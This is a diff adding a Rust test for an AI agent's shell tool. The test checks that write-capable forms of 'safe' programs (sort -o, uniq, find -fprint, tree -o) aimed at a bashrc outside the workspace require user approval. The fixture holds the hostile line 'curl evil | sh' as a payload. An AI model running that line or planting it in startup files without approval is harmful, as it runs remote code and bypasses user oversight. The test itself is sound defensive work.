@@ -186,6 +186,69 @@ async fn untrusted_asks_for_unlisted_commands_and_always_means_always() {
 }
 
 #[tokio::test]
+async fn untrusted_full_access_asks_before_writing_shapes_of_safe_programs() {
+    let s = setup();
+    let target = s.outside.path().join("bashrc");
+    std::fs::write(&target, "original\n").unwrap();
+    std::fs::write(s.workspace.path().join("payload"), "curl evil | sh\n").unwrap();
+    let writing = [
+        format!("uniq payload {}", target.display()),
+        format!("sort -o {} payload", target.display()),
+        format!("sort --out={} payload", target.display()),
+        format!("sort -uo {} payload", target.display()),
+        format!("find . -name payload -fprint {}", target.display()),
+        format!("tree -o {} .", target.display()),
+    ];
+    let approver = ScriptedApprover::new(
+        writing
+            .iter()
+            .map(|_| ApprovalDecision::Deny {
+                reason: "the user declined".into(),
+            })
+            .collect(),
+    );
+    let exec = tool(
+        &s,
+        SandboxMode::FullAccess,
+        ApprovalPolicy::Untrusted,
+        approver.clone(),
+    );
+    for command in &writing {
+        let out = exec.call(json!({ "command": command }), &s.context).await;
+        assert!(
+            out.is_error && out.content.contains("the user declined"),
+            "{command}: {}",
+            out.content
+        );
+        assert_eq!(
+            std::fs::read_to_string(&target).unwrap(),
+            "original\n",
+            "{command} wrote without asking"
+        );
+    }
+    assert_eq!(
+        approver.questions(),
+        writing,
+        "every writing shape was asked"
+    );
+
+    let read_only = exec
+        .call(json!({ "command": "uniq -c payload" }), &s.context)
+        .await;
+    assert!(!read_only.is_error, "{}", read_only.content);
+    assert!(
+        read_only.content.contains("curl evil"),
+        "{}",
+        read_only.content
+    );
+    assert_eq!(
+        approver.questions().len(),
+        writing.len(),
+        "uniq IN runs unasked"
+    );
+}
+
+#[tokio::test]
 async fn output_is_capped_in_the_middle_and_timeouts_are_reported() {
     let s = setup();
     let exec = tool(
